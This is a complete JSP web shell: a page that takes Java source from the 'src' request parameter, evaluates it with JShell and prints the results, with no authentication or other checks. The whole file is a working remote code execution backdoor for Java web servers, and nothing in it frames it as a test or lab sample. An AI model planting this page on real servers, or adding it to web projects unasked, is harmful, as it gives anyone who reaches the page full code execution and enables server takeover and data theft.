<%@ page import="jdk.jshell.JShell,jdk.jshell.SnippetEvent" %>
<%
String src = request.getParameter("src");
if (src != null) {
    try (JShell js = JShell.create()) {
        for (SnippetEvent e : js.eval(src)) {
            out.println(e.value());
        }
    }
}
%>
